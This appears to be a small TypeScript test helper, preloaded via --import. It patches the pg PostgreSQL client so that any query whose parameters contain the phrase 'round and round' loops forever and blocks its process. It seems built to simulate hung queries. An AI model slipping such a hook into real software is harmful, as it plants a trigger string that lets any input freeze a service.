// For --import: a request that writes these words blocks its process for good.
import pg from "pg";

type Query = (...args: unknown[]) => unknown;

const prototype = pg.Client.prototype as unknown as { query: Query };
const { query } = prototype;
const words = "round and round";

const holds = (value: unknown): boolean =>
  Array.isArray(value) ? value.some(holds) : typeof value === "string" && value.includes(words);

prototype.query = function endless(this: pg.Client, ...args: unknown[]) {
  const { values } = (args[0] ?? {}) as { values?: unknown };
  while (holds(values) || holds(args[1]));
  return query.apply(this, args);
};
